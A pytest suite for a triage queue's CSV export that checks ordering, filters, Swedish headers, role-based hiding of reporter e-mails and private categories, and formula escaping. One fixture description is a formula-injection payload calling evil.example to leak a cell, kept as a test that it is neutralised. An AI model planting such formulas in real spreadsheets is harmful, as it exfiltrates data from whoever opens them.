"""The queue's filter as CSV: every row of the filter (not one page) in the list's order, words
in the reader's language with the codes beside them, formula-safe cells, the reporter's e-mail
only for the triage desk and admins, and nothing a role may not see."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from sqlmodel import select

from app import clock
from app.models import Priority, Status, Unit
from app.services import csvfile, queue
from tests.factories import insert_observation, login_as
from tests.routes.test_queue_filters import queue_ids

CENTRUM = (65.8253, 21.6880)


def unit_id(session, slug: str) -> int:  # type: ignore[no-untyped-def]
    return session.exec(select(Unit.id).where(Unit.slug == slug)).one()


def export(client, query: str = "", **headers: str) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    answer = client.get(f"/triage/export.csv?{query}", headers=headers)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith('attachment; filename="queue-')
    text = answer.content.decode("utf-8")
    assert text.startswith(csvfile.BOM)
    return list(csv.DictReader(io.StringIO(text.removeprefix(csvfile.BOM))))


def all_queue_ids(client, query: str) -> list[int]:  # type: ignore[no-untyped-def]
    """The rows of every page of the queue, in its order."""
    found: list[int] = []
    page = 1
    while True:
        rows = queue_ids(client, f"{query}&page={page}")
        found += rows
        if len(rows) < queue.PAGE_SIZE:
            return found
        page += 1


@pytest.fixture
def lighting(session, stopped_clock):  # type: ignore[no-untyped-def]
    """Seventy open street-lighting reports over ten weeks, priorities and backers spread, the
    first with a formula for a description; each reporter left an address."""
    unit = unit_id(session, "street-lighting")
    for i in range(70):
        insert_observation(
            session,
            lat=CENTRUM[0] + i / 10_000,
            lon=CENTRUM[1],
            unit_id=unit,
            priority=list(Priority)[i % 4],
            supporters=i % 5,
            created_at=clock.now() - timedelta(days=i, hours=i % 7),
            description='=HYPERLINK("http://evil.example/?"&A1)' if i == 0 else f"lamp {i}",
            contact_email=f"resident{i}@example.se",
            address="Storgatan 1, Boden" if i == 1 else None,
        )


@pytest.mark.parametrize("sort", queue.SORTS)
def test_every_row_of_the_filter_in_the_queues_order(client, session, lighting, sort):
    login_as(client, session, "triager")
    rows = export(client, f"sort={sort}")
    assert [int(r["Number"]) for r in rows] == all_queue_ids(client, f"sort={sort}")
    assert len(rows) == 70  # more than one page of the queue


def test_the_filter_narrows_the_file_as_it_narrows_the_queue(client, session, lighting):
    login_as(client, session, "triager")
    query = "priority=urgent&older_than=20&page=2"  # the page is not a filter: all rows come
    rows = export(client, query)
    assert [int(r["Number"]) for r in rows] == all_queue_ids(
        client, "priority=urgent&older_than=20"
    )
    assert {r["Priority code"] for r in rows} == {"urgent"}


def test_cells_carry_words_and_codes_and_no_formula(client, session, lighting):
    login_as(client, session, "triager")
    answer = client.get("/triage/export.csv?sort=oldest")
    raw = answer.content.decode("utf-8")
    assert "'=HYPERLINK" in raw  # neutralised: a spreadsheet shows it as text
    rows = list(csv.DictReader(io.StringIO(raw.removeprefix(csvfile.BOM))))
    newest, oldest = rows[-1], rows[0]
    assert csvfile.read_cell(newest["Description"]) == '=HYPERLINK("http://evil.example/?"&A1)'
    assert oldest["Status code"] == "new" and oldest["Status"] == "Received"
    assert oldest["Category code"] == "dark-spot" and oldest["Category"]
    assert oldest["Unit code"] == "street-lighting"
    assert oldest["Overdue"] in ("yes", "no")
    assert oldest["Public link"].endswith(f"/reports/{oldest['Number']}")
    assert float(oldest["Latitude"]) > 65 and float(oldest["Longitude"]) > 21
    with_address = next(r for r in rows if r["Address"])
    assert with_address["Address"] == "Storgatan 1, Boden"


def test_swedish_headers_and_words_for_a_swedish_reader(client, session, lighting):
    login_as(client, session, "triager")
    rows = export(client, "sort=oldest", **{"Accept-Language": "sv"})
    first = rows[0]
    assert first["Statuskod"] == "new" and first["Status"] == "Mottagen"
    assert first["Prioritetskod"] in {p.value for p in Priority}
    assert first["Försenade"] in ("ja", "nej")
    assert "Nummer" in first and "Rapporterad" in first


@pytest.mark.parametrize("role", ["triager", "admin"])
def test_the_triage_desk_gets_the_reporters_address(client, session, lighting, role):
    login_as(client, session, role)
    rows = export(client)
    assert all(r["Reporter's e-mail"].startswith("resident") for r in rows)


def test_a_unit_worker_gets_no_reporters_address(client, session, lighting):
    login_as(client, session, "unit_worker", unit="street-lighting")
    answer = client.get("/triage/export.csv")
    assert answer.status_code == 200
    assert "@example.se" not in answer.text
    rows = list(csv.DictReader(io.StringIO(answer.text.removeprefix(csvfile.BOM))))
    assert len(rows) == 70 and "Reporter's e-mail" not in rows[0]


def test_a_private_category_stays_with_those_who_may_see_it(client, session, stopped_clock):
    police = unit_id(session, "police")
    secret = insert_observation(
        session, lat=CENTRUM[0], lon=CENTRUM[1], category="drug-dealing", unit_id=police,
        description="dealing behind the school",
    )  # fmt: skip
    insert_observation(
        session, lat=CENTRUM[0], lon=CENTRUM[1], unit_id=unit_id(session, "street-lighting")
    )
    login_as(client, session, "unit_worker", unit="street-lighting")
    rows = export(client, "status=" + "&status=".join(Status))
    assert len(rows) == 1 and "dealing" not in client.get("/triage/export.csv").text
    assert str(secret.id) not in {r["Number"] for r in rows}

    client.cookies.clear()
    login_as(client, session, "triager")
    rows = export(client)
    found = next(r for r in rows if r["Number"] == str(secret.id))
    assert found["Public link"] == ""  # a private category has no public page


def test_good_places_are_not_in_the_queues_file(client, session, stopped_clock):
    insert_observation(session, lat=CENTRUM[0], lon=CENTRUM[1], category="good-place")
    login_as(client, session, "triager")
    assert export(client) == []


def test_a_filter_the_queue_refuses_is_refused(client, session):
    login_as(client, session, "triager")
    assert client.get("/triage/export.csv?sort=sideways").status_code == 422
    assert client.get("/triage/export.csv?q=lamp%00").status_code == 422
